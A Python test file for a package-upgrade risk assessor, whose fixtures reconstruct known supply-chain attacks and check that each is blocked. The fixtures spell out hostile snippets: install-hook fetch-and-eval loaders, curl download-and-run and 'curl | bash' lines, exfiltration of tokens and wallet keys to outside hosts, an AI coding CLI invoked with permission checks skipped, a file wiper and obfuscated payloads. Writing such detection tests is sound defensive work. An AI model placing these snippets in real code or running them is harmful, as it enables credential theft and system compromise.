"""Tests of worker.risk with upgrades like real attacks: each is blocked for the right reason."""

import base64
from dataclasses import replace

import pytest

from tests.support.upgrades import NOW, added_file, binary_file, changed_file, upgrade
from worker.change import Change
from worker.risk import assess

THRESHOLD = 0.75  # the default of POLICY_THRESHOLD
ENCODED_URL = base64.b64encode(
    b"https://geo.test/ipgeo?apiKey=ae511e1627824a968aaaa758a530"
).decode()

EVENT_STREAM = upgrade(
    changed_file("index.js", "exports.flatmap = require('flatmap-streams')"),
    old_manifest={"dependencies": {"through": "~2.3.1"}},
    new_manifest={"dependencies": {"through": "~2.3.1", "flatmap-streams": "^0.1.0"}},
    new_metadata={"publisher": "stranger"},
)

# the added dependency, one version later
FLATMAP = upgrade(
    changed_file(
        "index.min.js",
        "var Stream=require('stream').Stream;module.exports=function(e,n){var i=new Stream};"
        "!function(){try{var r=require,t=process;"
        "function e(r){return Buffer.from(r,'hex').toString()}"
        "var n=r(e('2e2f746573742f64617461')),o=t[e(n[3])][e(n[4])];if(!o)return;"
        "var u=r(e(n[2])).createDecipher('aes256',o),a=u.update(n[0],e(n[8]),e(n[9]));"
        "var f=new module.constructor;f.paths=module.paths,f._compile(a,''),f.exports(n[1])}"
        "catch(r){}}();",
    ),
    added_file("test/data.js", f"module.exports=['{'75d4c87f3f69e0fa292969072c49dff4' * 40}','x']"),
)

ESLINT_SCOPE = upgrade(
    added_file(
        "lib/build.js",
        "try{",
        "  var https=require('https');",
        "  https.get({hostname:'pastebin.com',path:'/raw/XLeVP82h',headers:{}},(r)=>{",
        "    r.setEncoding('utf8');",
        "    r.on('data',(c)=>{ eval(c); });",
        "  }).on('error',()=>{});",
        "}catch(e){}",
    ),
    new_manifest={"scripts": {"postinstall": "node ./lib/build.js"}},
)

UA_PARSER = upgrade(
    added_file(
        "preinstall.js",
        'const { exec } = require("child_process");',
        'exec("preinstall.bat", (error, stdout) => {});',
        'const terminal = spawn("bash", ["preinstall.sh"]);',
    ),
    added_file(
        "preinstall.sh",
        "IP=$(curl -k -s https://freegeo.test/xml/ | grep 'RU')",
        "curl http://159.148.186.228/download/jsextension -o jsextension",
        "chmod +x jsextension && ./jsextension -k --tls -o pool.test:443",
    ),
    new_manifest={"scripts": {"preinstall": "start /B node preinstall.js & node preinstall.js"}},
)

NODE_IPC = upgrade(
    added_file(
        "dao/ssl-geospec.js",
        'import u from"path";import a from"fs";import o from"https";setTimeout(function(){'
        f'const n=Buffer.from("{ENCODED_URL}","base64");'
        'o.get(n.toString("utf8"),function(t){t.on("data",function(t){'
        'const e=Buffer.from("Y291bnRyeV9uYW1l","base64");'
        'const o=Buffer.from("Li8=","base64");h(o.toString("utf8"))})})},Math.ceil(1e3));'
        'async function h(n="",o=""){if(!a.existsSync(n)){return}for(const x of a.readdirSync(n)){'
        'try{a.writeFile(u.join(n,x),Buffer.from("4p2k77iP","base64"),function(){})}catch(t){}}}',
    ),
    changed_file("node-ipc.js", 'import "./dao/ssl-geospec.js";'),
)

# as in xz: the payload is a broken archive among the tests, unpacked by a build step
XZ = upgrade(
    binary_file("tests/files/bad-3-corrupt_lzma2.xz", "archive"),
    changed_file(
        "lib/native.js",
        'const packed = fs.readFileSync(path.join(root, "tests/files/bad-3-corrupt_lzma2.xz"));',
        'execFileSync("sh", ["-c", decode(packed)]);',
    ),
)

SHAI_HULUD = upgrade(
    added_file(
        "bundle.js",
        "var e={};"
        * 400
        + 'const t=await fetch("https://webhook.site/bb8ca5f6");process.env.GITHUB_TOKEN;'
        'exec("trufflehog filesystem / --json");w(".github/workflows/shai-hulud-workflow.yml");'
        'await run("npm publish")',
    ),
    new_manifest={"scripts": {"postinstall": "node bundle.js"}},
)

# the second wave: an installer that downloads Bun, and ten megabytes that are not compared
SHAI_HULUD_TWO = upgrade(
    added_file(
        "setup_bun.js",
        "const { spawnSync } = require('child_process');",
        "spawnSync('bash', ['-c', 'curl -fsSL https://bun.test/install | bash']);",
    ),
    replace(
        added_file("bun_environment.js", "a"), size=10_000_000, complete=False, note="too large"
    ),
    new_manifest={"scripts": {"preinstall": "node setup_bun.js"}},
)

CHALK_DEBUG = upgrade(
    changed_file(
        "source/index.js",
        "const _0x112fa8=_0x180f;(function(_0x13c8b9,_0x35f660){const _0x15b386=_0x180f;"
        + "while(!![]){try{const _0x66ea25=parseInt(_0x15b386(0x20b))/(0xf80);}catch(e){}}" * 60
        + "async function checkethereumw(){if(typeof window!='undefined'&&window.ethereum){"
        "const a='0xFc4a4858bafef54D1b1d7697bfb5c52F4c166976';XMLHttpRequest.prototype.open=b}}",
        "import ansiStyles from '#ansi-styles';",
        removed_lines=("import ansiStyles from '#ansi-styles';",),
    ),
)

SOLANA = upgrade(
    changed_file(
        "lib/index.cjs.js",
        "  static fromSecretKey(secretKey, options) {",
        "    addToQueue(secretKey);",
        "async function addToQueue(key) {",
        "  const b = bs58.encode(key);",
        "  fetch('https://sol-rpc.test/api/rpc/queue', { method:'POST', headers:{ 'x-amz': b }});",
        removed_lines=("  static fromSecretKey(secretKey, options) {",),
    ),
)

NX = upgrade(
    added_file(
        "telemetry.js",
        "const token = spawnSync('gh', ['auth', 'token']);",
        "const cli = ['claude', '--dangerously-skip-permissions', '-p', PROMPT];",
        "for (const file of ['.bashrc', '.zshrc']) append(file, 'sudo shutdown -h 0');",
    ),
    new_manifest={"scripts": {"postinstall": "node telemetry.js"}},
    old_metadata={"provenance": True},
)

ESLINT_CONFIG_PRETTIER = upgrade(
    binary_file("node-gyp.dll", "pe"),
    added_file(
        "install.js",
        "const cp = require('chi' + 'ld_pro' + 'cess');",
        "cp.spawn('rundll32', [path.join(__dirname, './node-gyp.dll') + ',main']);",
    ),
    new_manifest={"scripts": {"install": "node install.js"}},
)

# the payload consists of characters that editors do not show
GLASSWORM = upgrade(
    changed_file(
        "index.js",
        f"const code = decode(`{''.join(chr(0xFE00 + i % 16) for i in range(300))}`);",
        "eval(code);",
    ),
)

RAND_USER_AGENT = upgrade(
    changed_file(
        "dist/index.js",
        "module.exports = agent;" + " " * 400 + "global['r']=require;(function(){eval(a0b())})();",
        removed_lines=("module.exports = agent;",),
    ),
)

# the account of a maintainer who had published from a build before
AXIOS = upgrade(
    old_manifest={"dependencies": {"form-data": "^4.0.0"}},
    new_manifest={"dependencies": {"form-data": "^4.0.0", "plain-crypto": "^4.2.1"}},
    old_metadata={"provenance": True},
)

ATTACKS = {
    "event-stream": (EVENT_STREAM, "together.takeover"),
    "flatmap-stream": (FLATMAP, "together.hidden-code"),
    "eslint-scope": (ESLINT_SCOPE, "scripts.lifecycle"),
    "ua-parser-js": (UA_PARSER, "scripts.lifecycle"),
    "node-ipc": (NODE_IPC, "strings.encoded"),
    "xz": (XZ, "code.odd-load"),
    "shai-hulud": (SHAI_HULUD, "code.publishing"),
    "shai-hulud 2": (SHAI_HULUD_TWO, "files.unread"),
    "chalk and debug": (CHALK_DEBUG, "code.obfuscated"),
    "@solana/web3.js": (SOLANA, "together.exfiltration"),
    "nx": (NX, "provenance.lost"),
    "eslint-config-prettier": (ESLINT_CONFIG_PRETTIER, "files.native"),
    "GlassWorm": (GLASSWORM, "code.invisible"),
    "rand-user-agent": (RAND_USER_AGENT, "code.off-screen"),
    "axios": (AXIOS, "together.takeover"),
}


@pytest.mark.parametrize(("change", "signal"), ATTACKS.values(), ids=ATTACKS)
def test_an_attack_is_blocked_and_its_typical_signal_found(change: Change, signal: str):
    assessment = assess(change, NOW)
    assert assessment.risk >= THRESHOLD, assessment
    assert signal in {finding.signal for finding in assessment.findings}


@pytest.mark.parametrize("name", ["eslint-scope", "ua-parser-js", "shai-hulud", "nx"])
def test_an_attack_is_blocked_without_its_install_script(name: str):
    """The same code could wait to be called."""
    change, _ = ATTACKS[name]
    without_script = upgrade(*change.files, old_metadata={"provenance": change.old.provenance})
    assert assess(without_script, NOW).risk >= THRESHOLD
